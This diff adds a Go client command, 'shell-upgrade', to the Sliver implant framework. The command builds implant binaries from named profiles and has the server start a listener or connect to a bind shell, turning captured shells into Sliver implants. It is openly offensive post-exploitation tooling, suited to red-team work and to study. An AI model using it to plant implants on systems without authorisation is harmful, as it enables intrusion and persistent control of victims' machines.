@@ -0,0 +1,94 @@
+package jobs
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"context"
+	"strings"
+
+	"github.com/bishopfox/sliver/client/command/generate"
+	"github.com/bishopfox/sliver/client/console"
+	"github.com/bishopfox/sliver/protobuf/clientpb"
+	"github.com/desertbit/grumble"
+)
+
+// ShellUpgradeCmd --profile name[,name] [--lhost ip --lport port | --connect host:port]
+func ShellUpgradeCmd(ctx *grumble.Context, con *console.SliverConsoleClient) {
+	profileNames := ctx.Flags.String("profile")
+	connect := ctx.Flags.String("connect")
+	if profileNames == "" {
+		con.PrintErrorf("Missing required flags, see `help shell-upgrade` for more info\n")
+		return
+	}
+
+	implants := []*clientpb.ShellUpgradeImplant{}
+	for _, profileName := range strings.Split(profileNames, ",") {
+		profile := generate.GetImplantProfileByName(strings.TrimSpace(profileName), con)
+		if profile == nil {
+			con.PrintErrorf("Profile '%s' not found\n", profileName)
+			return
+		}
+		if profile.Config.Format != clientpb.OutputFormat_EXECUTABLE {
+			con.PrintErrorf("Profile '%s' is not an executable\n", profileName)
+			return
+		}
+		data, err := generate.GetSliverBinary(profile, con)
+		if err != nil {
+			con.PrintErrorf("%s\n", err)
+			return
+		}
+		implants = append(implants, &clientpb.ShellUpgradeImplant{
+			GOOS:   profile.Config.GOOS,
+			GOARCH: profile.Config.GOARCH,
+			Data:   data,
+		})
+	}
+
+	if connect != "" {
+		ctrl := make(chan bool)
+		con.SpinUntil("Upgrading bind shell ...", ctrl)
+		_, err := con.Rpc.StartShellUpgradeListener(context.Background(), &clientpb.ShellUpgradeReq{
+			Implants: implants,
+			Connect:  connect,
+		})
+		ctrl <- true
+		<-ctrl
+		if err != nil {
+			con.PrintErrorf("Failed to upgrade bind shell: %s\n", err)
+			return
+		}
+		con.PrintInfof("Upgraded bind shell %s\n", connect)
+		return
+	}
+
+	ctrl := make(chan bool)
+	con.SpinUntil("Starting shell upgrade listener ...", ctrl)
+	listener, err := con.Rpc.StartShellUpgradeListener(context.Background(), &clientpb.ShellUpgradeReq{
+		Host:     ctx.Flags.String("lhost"),
+		Port:     uint32(ctx.Flags.Int("lport")),
+		Implants: implants,
+	})
+	ctrl <- true
+	<-ctrl
+	if err != nil {
+		con.PrintErrorf("Error starting shell upgrade listener: %s\n", err)
+		return
+	}
+	con.PrintInfof("Job %d (shell-upgrade) started\n", listener.GetJobID())
+}